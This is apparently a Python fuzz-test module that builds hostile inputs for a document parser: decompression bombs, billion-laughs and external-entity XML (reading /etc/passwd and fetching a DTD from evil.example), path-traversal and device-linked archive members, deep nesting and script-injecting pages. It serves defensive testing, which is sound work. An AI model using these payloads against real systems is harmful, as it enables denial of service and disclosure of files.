# ruff: noqa: E501, PLW0108  (tables of cases read best one case a line, each made when it is needed)
"""Inputs made to harm: bombs, loops, lies, nesting, names that lead elsewhere. Each is made when it is needed."""

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping

from tests.fuzz.seeds import LETTER, LIVE, PAGE, READING, STORY, tarred, zipped
from tests.fuzz.shapes import MAIL, ODT_NAMES, W, pdf_objects, pdf_of, warc_record

DEEP = 10_000
MB = 2**20
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE a [<!ENTITY a0 "ha">{LAUGHS}]>'
LONG_ENTITY = f'<!DOCTYPE a [<!ENTITY a "{"x" * 100_000}">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY a9 SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/a.dtd"> %p;]>'
XML = '<?xml version="1.0"?>'


def nested_zips(depth: int) -> bytes:
    """An archive in an archive in an archive."""
    data = zipped({"a.txt": STORY})
    for _ in range(depth):
        data = zipped({"in.zip": data}, method=zipfile.ZIP_STORED)
    return data


def overlapping_zip(members: int) -> bytes:
    """An archive whose members all are the same bytes, which unpack to a megabyte each."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("a.txt"), b"\0" * MB, zipfile.ZIP_DEFLATED)
        entry = archive.infolist()[0]
        for n in range(members):
            more = zipfile.ZipInfo(f"{n}.txt")
            for name in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(more, name, getattr(entry, name))
            archive.filelist.append(more)
    return out.getvalue()


def self_zip() -> bytes:
    """An archive whose one stored member is said to begin at the archive's own beginning and to be all of it."""
    name = b"a.zip"
    local = struct.pack("<4sHHHHHLLLHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    total = len(local) + 46 + len(name) + 22
    central = struct.pack(
        "<4sHHHHHHLLLHHHHHLL", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, total, total, len(name), 0, 0, 0, 0, 0, 0
    )
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(name), len(local), 0)
    return local + central + name + end


def pages_in_a_circle() -> bytes:
    """A PDF whose tree of pages bites its tail."""
    return pdf_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 9 /Parent 3 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 /Parent 2 0 R >>",
        ]
    )


def many_pages(count: int) -> bytes:
    """A PDF that says it has so many pages, all the same one."""
    return pdf_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ]
    )


def forms_in_a_circle() -> bytes:
    """A PDF whose drawing draws itself."""
    stream = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 4 0 R >> >> /Length 18 >>\nstream\n/A Do /A Do /A Do \nendstream"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 5 0 R /Resources << /XObject << /A 4 0 R >> >> >>"
    )
    return pdf_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream,
            b"<< /Length 5 >>\nstream\n/A Do\nendstream",
        ]
    )


def picture(coding: str) -> bytes:
    """A PDF with a picture of garbage in a coding that decoders were broken in before."""
    image = (
        f"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /{coding} /Length 400 >>\n"
        "stream\n"
    ).encode() + bytes(range(200)) * 2 + b"\nendstream"  # fmt: skip
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /XObject << /I 4 0 R >> >> >>"
    drawn = b"<< /Length 31 >>\nstream\nq 500 0 0 700 40 60 cm /I Do Q \nendstream"
    return pdf_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, image, drawn]
    )


def flate_bomb() -> bytes:
    """A PDF whose drawing unpacks to 100 MB of blanks."""
    import zlib

    packed = zlib.compress(b" " * (100 * MB), 9)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    drawn = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)
    return pdf_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, drawn]
    )


def odd_tar() -> bytes:
    """A tape of paths that lead out, links, devices, and a sparse file that says it is a terabyte."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name in (
            "/etc/cron.d/a.txt",
            "../../a.txt",
            "a/../../b.txt",
            "C:\\a.txt",
            "a\n\x1b[2J\u202e.txt",
            "." * 300,
        ):
            info = tarfile.TarInfo(name)
            info.size = len(STORY.encode())
            archive.addfile(info, io.BytesIO(STORY.encode()))
        for kind in (
            tarfile.SYMTYPE,
            tarfile.LNKTYPE,
            tarfile.CHRTYPE,
            tarfile.BLKTYPE,
            tarfile.FIFOTYPE,
            tarfile.DIRTYPE,
        ):
            info = tarfile.TarInfo("a.txt")
            info.type, info.linkname = kind, "../../../etc/passwd"
            archive.addfile(info)
        sparse = tarfile.TarInfo("sparse.txt")
        sparse.type, sparse.size = tarfile.GNUTYPE_SPARSE, 2**40
        archive.addfile(sparse)
    return out.getvalue()


def multiparts(depth: int) -> bytes:
    """Parts in parts, each with a boundary of its own."""
    heads = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
    return (MAIL + heads + "Content-Type: text/plain\n\nThe talks go on.\n").encode()


def forwards(depth: int) -> bytes:
    """A mail in a mail in a mail."""
    return (MAIL + "Content-Type: message/rfc822\n\n").encode() * depth + MAIL.encode() + b"\nThe talks go on.\n"


def reading(**changed: object) -> bytes:
    """A line of readings with some of it changed."""
    return json.dumps(READING | changed).encode()


def _docx(body: str, kind: str = "") -> bytes:
    return zipped({"word/document.xml": f"{kind}<w:document {W}><w:body>{body}</w:body></w:document>"})


def _odt(body: str, kind: str = "") -> bytes:
    inner = f"<office:body><office:text>{body}</office:text></office:body>"
    content = f"{kind}<office:document-content {ODT_NAMES}>{inner}</office:document-content>"
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


def _rss(item: str, kind: str = "") -> bytes:
    return f'{XML}{kind}<rss version="2.0"><channel><title>a</title><item>{item}</item></channel></rss>'.encode()


def _letter(more: str) -> bytes:
    return f"{MAIL}{more}".encode()


def _bare(drawing: bytes, *, box: str = "0 0 595 842") -> bytes:
    return pdf_of([drawing], box=box)


HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    # nesting
    "html 10,000 deep": ("html", lambda: b"<html><body>" + b"<div>" * DEEP + STORY.encode()),
    "html of lists in tables": ("html", lambda: b"<table><tr><td><ul><li>" * 3000 + STORY.encode()),
    "html of unclosed bold": ("html", lambda: b"<p><b><i><a href=x>word" * 5000),
    "html svg 10,000 deep": ("html", lambda: b"<svg>" + b"<g>" * DEEP + STORY.encode()),
    "json 10,000 deep in a page": ("html", lambda: PAGE.replace('"author": {', '"author": ' + '{"a":' * DEEP + "1" + "}" * DEEP + ', "b": {').encode()),
    "json lists 100,000 deep in a page": ("html", lambda: b'<script type="application/ld+json">' + b"[" * 100_000 + b"</script><p>" + STORY.encode()),
    "json 10,000 deep": ("jsonl", lambda: b'{"text": "x", "more": ' + b'{"a":' * DEEP + b"1" + b"}" * DEEP + b"}"),
    "json lists 1,000,000 deep": ("jsonl", lambda: b'{"text": ' + b"[" * 1_000_000),
    "reading 100,000 deep": ("reading", lambda: b'{"clipping_id": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "reading with deep rows": ("reading", lambda: b'{"clipping_id": "a", "talks": [' + b'{"participants": [' * DEEP + b"]}" * DEEP + b"]}"),
    "feed 10,000 deep": ("feed", lambda: _rss("<description>" + "<a>" * DEEP + "</a>" * DEEP + "</description>")),
    "feed of marks 10,000 deep": ("feed", lambda: _rss("<description>" + "&lt;div&gt;" * DEEP + "talks</description>")),
    "docx 10,000 deep": ("docx", lambda: _docx("<w:tbl><w:tr><w:tc>" * DEEP + "</w:tc></w:tr></w:tbl>" * DEEP)),
    "odt 10,000 deep": ("odt", lambda: _odt("<text:span>" * DEEP + "</text:span>" * DEEP)),
    "rtf 1,000,000 deep": ("rtf", lambda: b"{\\rtf1" + b"{\\b " * 1_000_000),
    "multiparts 10,000 deep": ("letter", lambda: multiparts(DEEP)),
    "multiparts 10,000 deep in a snapshot": ("mhtml", lambda: multiparts(DEEP)),
    "mails 3,000 deep": ("letter", lambda: forwards(3000)),
    "mails 3,000 deep in a box": ("mailbox", lambda: b"From a@b.example Mon Mar  1 10:00:00 2004\n" + forwards(3000)),
    "comments of mail headers 100,000 deep": ("letter", lambda: _letter(f"Cc: {'(' * 100_000}\nReply-To: {'<' * 100_000}\n\nTalks.\n")),
    "archives 40 deep": ("zip", lambda: nested_zips(40)),
    "gzip 100 deep": ("gzip", lambda: _again(gzip.compress, 100)),
    "markdown quotes 10,000 deep": ("markdown", lambda: b"> " * DEEP + b"talks\n" + b"- " * DEEP + b"talks " + b"*_" * DEEP),
    # XML
    "feed of laughs": ("feed", lambda: _rss("<title>&a9;</title><description>&a9;</description>", LAUGHS)),
    "feed of one long entity many times": ("feed", lambda: _rss(f"<description>{'&a;' * 50_000}</description>", LONG_ENTITY)),
    "feed with a file": ("feed", lambda: _rss("<description>&a9; talks</description>", OUTSIDE)),
    "docx of laughs": ("docx", lambda: _docx("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", LAUGHS)),
    "odt with a file": ("odt", lambda: _odt("<text:p>&a9;</text:p>", OUTSIDE)),
    "page of laughs": ("html", lambda: (LAUGHS + "<html><body><p>&a9; talks</p></body></html>").encode()),
    "page with a file": ("html", lambda: (XML + OUTSIDE + "<html><body><p>&a9; talks</p><xi:include href='file:///etc/passwd'/></body></html>").encode()),
    "odt of blanks by number": ("odt", lambda: _odt('<text:p>a<text:s text:c="99999999999"/>b</text:p>')),
    "odt of columns by number": ("odt", lambda: _odt('<table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000000"><text:p>a</text:p></table:table-cell></table:table-row></table:table>')),
    # large
    "attribute of 2 MB": ("html", lambda: b'<p class="' + b"x " * MB + b'">' + STORY.encode()),
    "attributes in thousands": ("html", lambda: b"<p " + b"".join(b"a%d=1 " % n for n in range(30_000)) + b">" + STORY.encode()),
    "meta tags in thousands": ("html", lambda: b'<meta property="article:published_time" content="2004-03-03"><meta name="author" content="Ana Lodi">' * 5000 + STORY.encode()),
    "number of 1 MB": ("jsonl", lambda: b'{"text": "talks", "id": ' + b"9" * MB + b"}"),
    "key of 1 MB": ("jsonl", lambda: b'{"text": "talks", "' + b"k" * MB + b'": 1}'),
    "field of 2 MB": ("table", lambda: b'text,date\n"' + b"talks " * (MB // 3) + b'",2004\n'),
    "columns in thousands": ("table", lambda: b",".join(b"c%d" % n for n in range(50_000)) + b"\n" + b"1," * 50_000 + b"\n"),
    "quote that never ends": ("table", lambda: b'text\n"' + b"talks\n" * 100_000),
    "header of 2 MB": ("letter", lambda: _letter("X-A: " + "a" * (2 * MB) + "\n\nTalks.\n")),
    "encoded words in thousands": ("letter", lambda: f"From: a@b\nSubject: {'=?utf-8?B?w6Q=?= ' * 20_000}\n\nTalks.\n".encode()),
    "parameters in thousands": ("letter", lambda: _letter("Content-Type: text/plain" + "".join(f"; charset*{n}=u" for n in range(5000)) + "\n\nTalks.\n")),
    "recipients in thousands": ("letter", lambda: _letter("Cc: " + "Ana <a@b.example>, " * 20_000 + "\n\nTalks.\n")),
    "64 MB of line ends": ("text", lambda: b"\n" * (64 * MB)),
    "60 MB of blank lines and one word": ("text", lambda: b" \r\n" * (20 * MB) + b"talks"),
    "numbers beyond all days": ("text", lambda: ("99999999999999999999 March 99999999999 31/31/3131 " * 200).encode()),
    "digits of other scripts": ("text", lambda: "²³ March ²⁰⁰⁴ ٣/٣/٢٠٠٤ ௧௨ ①② 12 March 2004\n".encode() * 50),
    # encodings and signs
    "lone surrogates in JSON": ("jsonl", lambda: b'{"text": "The talks \\ud800 go on", "title": "\\udfff", "url": "\\ud800"}\n{"text": "talks", "outlet": "\\ud800"}\n{"text": "talks", "id": "\\udc00"}'),
    "lone surrogates in a page": ("html", lambda: b"<title>&#xD800;</title><p>&#55357; The talks \xed\xa0\x80 go on &#x110000; &#0; &#xFFFFFFFFFF;</p>" + STORY.encode()),
    "lone surrogates in rich text": ("rtf", lambda: b"{\\rtf1 \\u-10240 ?\\u55296 ? The talks go on{\\info{\\title \\u-10179 ?}}}"),
    "lone surrogates in a reading": ("reading", lambda: reading(text="\ud800 talks", title="\udfff")),
    "UTF-7": ("html", lambda: b'<meta charset="utf-7"><p>+ADw-script+AD4-evil()+ADw-/script+AD4- The talks go on.</p>'),
    "odd charsets": ("letter", lambda: LETTER.replace("charset=\"utf-8\"", "charset=\"rot13\"").replace("iso-8859-1", "base64").encode()),
    "charset of zeros": ("html", lambda: b'<meta charset="\x00utf\x00"><meta charset="unicode_escape"><p>\\u003cscript\\u003e The talks go on.\xff</p>'),
    "UTF-16 cut in half": ("html", lambda: PAGE.encode("utf-16")[:-1]),
    "UTF-32": ("text", lambda: STORY.encode("utf-32")),
    "zeros": ("html", lambda: PAGE.replace("e", "e\x00").encode()),
    "controls and directions": ("text", lambda: ("\x1b[2J\u202e\u2066" + STORY.replace(" ", " \u202e\x9b")).encode()),
    # pages that run
    "live page": ("html", LIVE.encode),
    "live page in a feed": ("feed", lambda: _rss(f"<title>&lt;script&gt;evil()&lt;/script&gt;</title><link>javascript:evil()</link><description><![CDATA[{LIVE}]]></description>")),
    # archives
    "gzip bomb": ("gzip", lambda: gzip.compress(bytes(100 * MB), 1)),
    "bzip2 bomb": ("bzip2", lambda: bz2.compress(bytes(100 * MB), 9)),
    "xz bomb": ("xz", lambda: lzma.compress(bytes(100 * MB), preset=0)),
    "zip bomb": ("zip", lambda: zipped({f"{n}.txt": bytes(60 * MB) for n in range(6)})),
    "zip of members that overlap": ("zip", lambda: overlapping_zip(1000)),
    "zip that is its own member": ("zip", self_zip),
    "zip of 20,000 members": ("zip", lambda: zipped({f"{n}.png": b"" for n in range(20_000)}, method=zipfile.ZIP_STORED)),
    "zip of odd names": ("zip", lambda: zipped(dict.fromkeys(("/etc/a.txt", "../../a.txt", "C:\\..\\a.txt", "a\\..\\..\\b.txt", "con.txt", "\u202etxt.exe", "x" * 60000, "a!/b.txt"), STORY))),
    "tape of odd members": ("tar", odd_tar),
    "tape of a header of 1 GB": ("tar", lambda: tarred({"a.txt": b"x"})[:512].replace(b"00000000001\0", b"07777777777\0")),
    "web archive that lies": ("warc", lambda: warc_record(b"HTTP/1.1 200 OK\r\n\r\nx", length=10**18)),
    "web archive of headers": ("warc", lambda: b"WARC/1.0\r\n" + b"A: b\r\n" * 300_000),
    "web archive with a packed bomb": ("warc", lambda: warc_record(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n" + gzip.compress(bytes(100 * MB), 1))),
    "attached bomb": ("letter", lambda: _letter(f'Content-Type: application/zip; name="a.zip"\nContent-Transfer-Encoding: base64\n\n{base64.encodebytes(zipped({f"{n}.txt": bytes(60 * MB) for n in range(6)})).decode()}')),
    "quoted-printable of 2 MB": ("letter", lambda: _letter("Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n" + "=" * (2 * MB))),
    "uuencoded lie": ("letter", lambda: _letter("Content-Type: text/plain\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 a\n\xff\nend\n")),
    # PDF
    "pages in a circle": ("pdf", pages_in_a_circle),
    "100,000 pages": ("pdf", lambda: many_pages(100_000)),
    "pages by count alone": ("pdf", lambda: pdf_of([b""]).replace(b"/Count 1", b"/Count 2147483647")),
    "drawing that draws itself": ("pdf", forms_in_a_circle),
    "page of a light year": ("pdf", lambda: _bare(b"BT /F 9e30 Tf 1e30 1e30 Td (talks) Tj ET", box="-1e38 -1e38 1e38 1e38")),
    "page of nothing": ("pdf", lambda: _bare(b"BT /F 0 Tf (talks) Tj ET", box="0 0 0 0")),
    "JBIG2 garbage": ("pdf", lambda: picture("JBIG2Decode")),
    "JPX garbage": ("pdf", lambda: picture("JPXDecode")),
    "fax garbage": ("pdf", lambda: picture("CCITTFaxDecode")),
    "PDF bomb": ("pdf", flate_bomb),
    "objects 10,000 deep": ("pdf", lambda: pdf_objects([b"<< /Type /Catalog /Pages 2 0 R /A " + b"[" * DEEP + b"]" * DEEP + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])),
    "states 100,000 deep": ("pdf", lambda: _bare(b"q " * 100_000 + b"BT /F 9 Tf (talks) Tj ET")),
    "glyphs on one spot": ("pdf", lambda: _bare(b"BT /F 9 Tf " + b"(talks) Tj -20 0 Td " * 5_000 + b"ET")),
    # readings
    "reading of odd types": ("reading", lambda: b'{"clipping_id": [], "text": {}, "talks": {"a": 1}, "actors": [1, null, []], "published": "x"}'),
    "reading with spans beyond": ("reading", lambda: reading(body=[[-5, 99999999999999999999]])),
    "reading that is no object": ("reading", lambda: b"[" * 10),
    "reading in latin-1": ("reading", lambda: '{"clipping_id": "é"}'.encode("latin-1")),
}  # fmt: skip
"""By name: the parser and what makes the input."""


def _again(pack: Callable[[bytes], bytes], times: int) -> bytes:
    data = STORY.encode()
    for _ in range(times):
        data = pack(data)
    return data
